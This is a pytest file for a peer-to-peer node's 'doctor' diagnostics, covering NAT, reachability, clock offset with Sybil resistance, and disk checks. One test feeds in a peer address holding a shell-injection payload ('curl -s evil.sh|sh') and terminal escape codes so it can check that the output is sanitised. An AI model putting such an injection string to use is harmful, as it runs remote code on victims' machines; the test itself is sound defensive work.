"""``swarm-node doctor``'s verdicts (node/cli/doctor/checkup.py): one line per check, the exit code,
and the judgements of addresses, NAT, clock offset and disk, on hand-made findings."""

from __future__ import annotations

import pytest

from swarm_node.node.cli.doctor.checkup import (GiB, Check, address_check, checkpoint_bytes, clock_check, disk_check, exit_code,
                              listening_port, nat_check, reach_checks, render, report)
from swarm_node.node.transport.hivemind.dialback import Reach


def test_a_line_shows_the_fix_only_when_not_ok():
    assert render(Check("disk", "ok", "9 GiB free", "free space")) == "ok    disk       9 GiB free"
    assert render(Check("clock", "warn", "2 s behind", "use NTP")).endswith("2 s behind  fix: use NTP")


def test_exit_1_only_when_a_check_failed():
    ok, warn, fail = Check("a", "ok", ""), Check("b", "warn", ""), Check("c", "fail", "")
    assert exit_code([ok, warn]) == 0 and exit_code([ok, fail, warn]) == 1
    r = report([ok, fail], clock_offset_s=0.1)
    assert r["exit"] == 1 and not r["ok"] and r["checks"][1]["status"] == "fail" and r["clock_offset_s"] == 0.1


def test_nat_is_unknown_and_said_so_and_private_addresses_are_a_warning():
    private = ["/ip4/192.168.1.5/tcp/4001/p2p/12D3KooWx", "/ip4/127.0.0.1/tcp/4001/p2p/12D3KooWx"]
    c = nat_check(private, "hivemind", announced=False, behind_nat=False)
    assert c.status == "warn" and c.found.startswith("unknown: hivemind's p2pd does not report")
    assert "without --swarm.behind_nat, peers outside this network cannot reach it" in c.found
    assert "--swarm.announce_maddrs" in c.fix and "--swarm.behind_nat true" in c.fix
    relayed = nat_check(private, "hivemind", announced=False, behind_nat=True)
    assert "through the bootstrap peers' relay" in relayed.found and "--swarm.behind_nat true" not in relayed.fix
    lib = nat_check(private, "libp2p", announced=False, behind_nat=False)  # no relay there: not offered
    assert "this carrier has no relay" in lib.found and "behind_nat" not in lib.fix
    public = nat_check(["/ip4/93.184.216.34/tcp/4001"], "libp2p", announced=False, behind_nat=False)
    assert public.status == "ok" and "py-libp2p's host runs no AutoNAT" in public.found
    assert nat_check(private, "hivemind", announced=True, behind_nat=False).status == "ok"
    assert nat_check([], "mqtt", announced=False, behind_nat=False).status == "ok"
    assert "loopback/private" in address_check(private, "hivemind").found
    assert address_check([], "hivemind").status == "warn"


def test_the_port_tested_is_a_direct_listening_one():
    assert listening_port(["/ip4/1.2.3.4/tcp/4001/p2p/QmR/p2p-circuit/p2p/12D3x", "/ip4/10.0.0.5/tcp/31338/p2p/12D3x"]) \
        == 31338
    assert listening_port(["/ip4/1.2.3.4/udp/4001/quic"]) is None


LISTENING = ["/ip4/192.168.1.5/tcp/31338/p2p/12D3KooWx"]


def test_a_dial_back_that_reached_the_port_says_so_and_where_the_peer_saw_this_node():
    direct = Reach("12D3KooWBootstrapPeer", 31338, "/ip4/192.168.1.5/tcp/52044", "192.168.1.5:31338", True, "")
    nat, reach = reach_checks([direct], LISTENING, behind_nat=False)
    assert nat.status == "ok" and nat.found.startswith("none between this node and peer 12D3KooWBootstrap")
    assert reach.status == "ok" and "port 31338 is reachable" in reach.found and "192.168.1.5:31338" in reach.found


def test_behind_nat_with_the_port_closed_says_what_to_forward_and_announce():
    shut = Reach("12D3KooWBootstrapPeer", 31338, "/ip4/203.0.113.9/tcp/61002", "203.0.113.9:31338", False,
                 "no answer in 3 s (a firewall or NAT drops it)")
    nat, reach = reach_checks([shut], LISTENING, behind_nat=False)
    assert nat.status == "ok" and "behind NAT" in nat.found and "/ip4/203.0.113.9/tcp/61002" in nat.found
    assert "192.168.1.5 port 31338" in nat.found
    assert reach.status == "warn" and "not reachable" in reach.found and "without --swarm.behind_nat" in reach.found
    assert "forward TCP port 31338 on the router to this machine (192.168.1.5 port 31338)" in reach.fix
    assert "if no port can be forwarded, join with --swarm.behind_nat true" in reach.fix
    _, relayed = reach_checks([shut], LISTENING, behind_nat=True)
    assert "swarm.behind_nat is on: peers reach it through the bootstrap peers' relay" in relayed.found
    assert "--swarm.behind_nat true" not in relayed.fix
    assert '"/ip4/203.0.113.9/tcp/31338"' in reach.fix and "fix the port first" in reach.fix
    with_loopback = LISTENING + ["/ip4/127.0.0.1/tcp/31338/p2p/12D3KooWx"]
    _, fixed = reach_checks([shut], with_loopback, behind_nat=False, fixed_port=True)
    assert "(192.168.1.5 port 31338)" in fixed.fix and "fix the port first" not in fixed.fix
    assert "peers outside this network cannot reach it" in fixed.found
    # No NAT, the port closed: the firewall is the place.
    firewalled = Reach("12D3KooWBootstrapPeer", 31338, "/ip4/192.168.1.5/tcp/52044", "192.168.1.5:31338", False,
                       "connection refused")
    walled = reach_checks([firewalled], LISTENING, behind_nat=False)[1]
    assert "ufw allow 31338/tcp" in walled.fix and "behind_nat" not in walled.found + walled.fix


def test_a_forwarded_port_not_announced_is_reachable_but_peers_do_not_learn_it():
    forwarded = Reach("12D3KooWBootstrapPeer", 31338, "/ip4/203.0.113.9/tcp/31338", "203.0.113.9:31338", True, "")
    _, reach = reach_checks([forwarded], LISTENING, behind_nat=False)
    assert reach.status == "warn" and "is reachable" in reach.found and "does not give peers that address" in reach.found
    assert reach.fix.startswith("announce it: --swarm.announce_maddrs '[\"/ip4/203.0.113.9/tcp/31338\"]'")
    announced = ["/ip4/203.0.113.9/tcp/31338/p2p/12D3KooWx"]  # what the transport gives peers once announced
    nat, reach = reach_checks([forwarded], announced, behind_nat=False, announced=True)
    assert reach.status == "ok" and nat.found.endswith("saw this node at 203.0.113.9, the address it announces "
                                                       "(swarm.announce_maddrs)")


def test_with_no_dial_back_answer_reachability_is_unknown_and_said_so():
    old = Reach("12D3KooWBootstrapPeer", 31338, why="could not ask (P2PHandlerError): a bootstrap older than dial-back")
    nat, reach = reach_checks([old], LISTENING, behind_nat=False)
    assert nat.found.startswith("unknown") and reach.status == "warn" and reach.found.startswith("unknown")
    assert "older than dial-back" in reach.found
    assert "no peer to ask" in reach_checks([], LISTENING, behind_nat=False)[1].found


def test_a_peers_made_up_address_and_escapes_never_reach_the_suggested_command_or_the_terminal():
    evil = Reach("QmBoot", 4001, observed="/ip4/1.2.3.4\"]'; curl -s evil.sh|sh; echo '/tcp/4001", dialed="",
                 reachable=False, why="\x1b[32mok\x1b[0m")
    lines = [render(c) for c in reach_checks([evil], LISTENING, behind_nat=False, fixed_port=True)]
    assert not any("curl" in line or "\x1b" in line for line in lines), lines
    assert lines[1].startswith("warn  reachable  unknown: no peer answered") and "?[32mok?[0m" in lines[1]
    assert "\x1b" not in render(Check("reachable", "warn", "\x1b[2Jx", "\x1b]0;title\x07"))
    # A parseable address is quoted as a shell word, whatever it is.
    odd = Reach("QmBoot", 4001, "/ip4/203.0.113.9/tcp/4001", "203.0.113.9:4001", False, "refused")
    fix = reach_checks([odd], LISTENING, behind_nat=True, fixed_port=True)[1].fix
    assert fix.endswith("announce it: --swarm.announce_maddrs '[\"/ip4/203.0.113.9/tcp/4001\"]'")


def test_an_ipv6_address_is_suggested_as_ip6():
    v6 = Reach("QmBoot", 4001, "/ip6/2001:db8::1/tcp/4001", "[2001:db8::1]:4001", True, "")
    _, reach = reach_checks([v6], LISTENING, behind_nat=False, fixed_port=True)
    assert "dialed [2001:db8::1]:4001" in reach.found
    assert "--swarm.announce_maddrs '[\"/ip6/2001:db8::1/tcp/4001\"]'" in reach.fix and "/ip4/2001" not in reach.fix


def test_the_majority_of_answering_peers_decides_reachability_and_the_line_says_how_many():
    def seen(peer: str, ok: bool) -> Reach:
        return Reach(peer, 31338, "/ip4/203.0.113.9/tcp/61002", "203.0.113.9:31338", ok, "" if ok else "connection refused")

    _, one_liar = reach_checks([seen("QmA", False), seen("QmLiar", True), seen("QmB", False)], LISTENING, behind_nat=False)
    assert "not reachable from peer QmA (2 of 3 peer(s) that answered agree)" in one_liar.found
    _, most = reach_checks([seen("QmA", True), seen("QmB", True), seen("QmC", False)], LISTENING, behind_nat=False)
    assert "is reachable: peer QmA" in most.found and "(2 of 3 peer(s) that answered agree)" in most.found
    _, tie = reach_checks([seen("QmA", True), seen("QmB", False)], LISTENING, behind_nat=False)
    assert "not reachable from peer QmB (1 of 2" in tie.found  # a tie asks the user to check
    unanswered = Reach("QmGone", 31338, why="no answer")
    _, partial = reach_checks([unanswered, seen("QmA", True)], LISTENING, behind_nat=False)
    assert "(1 of 1 peer(s) that answered agree)" in partial.found


def test_the_clock_line_reads_the_median_of_peers_and_grades_it_by_the_round():
    near = [("a", 100.1, 100.0), ("b", 200.0, 200.1), ("c", 300.05, 300.0)]
    c, off = clock_check(near, 3, round_seconds=5.0, uncertainty=0.6, window=6)
    assert c.status == "ok" and off == pytest.approx(0.05) and "median of 3 peers'" in c.found
    assert "3 of them within" in c.found
    behind = [("a", 102.0, 100.0), ("b", 202.2, 200.0), ("c", 302.1, 300.0)]
    c, off = clock_check(behind, 3, round_seconds=5.0, uncertainty=0.6, window=6)
    assert c.status == "warn" and off == pytest.approx(2.1) and "2.100 s behind" in c.found and "NTP" in c.fix
    ahead = [("a", 92.0, 100.0), ("b", 192.0, 200.0), ("c", 291.9, 300.0)]
    c, off = clock_check(ahead, 3, round_seconds=5.0, uncertainty=0.6, window=6)
    assert c.status == "fail" and "8.000 s ahead of" in c.found
    c, off = clock_check([], 0, round_seconds=5.0, uncertainty=0.6, window=6)
    assert c.status == "warn" and off is None and "no peer's heartbeat heard in 6 s" in c.found
    c, _ = clock_check([], 2, round_seconds=5.0, uncertainty=0.6, window=6)
    assert "heard 2 peer(s)" in c.found


def test_fewer_than_three_peers_give_no_offset_however_many_heartbeats_they_send():
    # Two keys (anyone's), one of them sending many heartbeats with a stamp a year off: not measured.
    two = [("a", 100.0, 100.0)] + [("sybil", 100.0 + 365 * 86400, 100.0)] * 20
    c, off = clock_check(two, 2, round_seconds=5.0, uncertainty=0.6, window=6)
    assert c.status == "warn" and off is None and "not enough peers" in c.found and "3 distinct peers" in c.found


def test_a_few_forged_stamps_cannot_make_the_clock_line_fail():
    honest = [(f"h{i}", 100.0 + i * 0.01, 100.0) for i in range(3)]
    # Two Sybil keys 30 s off, each sending 10 heartbeats: one vote each; the median stays honest.
    sybils = [(f"s{k}", 130.0, 100.0) for k in range(2) for _ in range(10)]
    c, off = clock_check(honest + sybils, 5, round_seconds=5.0, uncertainty=0.6, window=6)
    assert c.status == "ok" and off == pytest.approx(0.02) and "median of 5 peers'" in c.found
    assert "3 of them within" in c.found
    # As many Sybils as honest peers, split around them: the median is theirs to move, so no verdict.
    split = honest + [("s0", 130.0, 100.0), ("s1", 130.0, 100.0), ("s2", 70.0, 100.0)]
    c, off = clock_check(split, 6, round_seconds=5.0, uncertainty=0.6, window=6)
    assert c.status == "warn" and off is None and "peers disagree" in c.found


def test_disk_against_the_checkpoints_it_will_write():
    need = 4 * checkpoint_bytes(500_000_000, 0)  # 0.5B parameters, full fine-tuning: 6 GB a checkpoint
    assert need == 24_000_000_000
    assert disk_check("/r", 100 * GiB, need, "4 checkpoints").status == "ok"
    assert disk_check("/r", 15 * GiB, need, "4 checkpoints").status == "warn"
    c = disk_check("/r", 5 * GiB, need, "4 checkpoints")
    assert c.status == "fail" and "22.35 GiB" in c.found and "keep_checkpoints" in c.fix
    assert checkpoint_bytes(500_000_000, 16) == 500_000_000
    assert disk_check("/r", GiB // 2, None, "not sized").status == "warn"
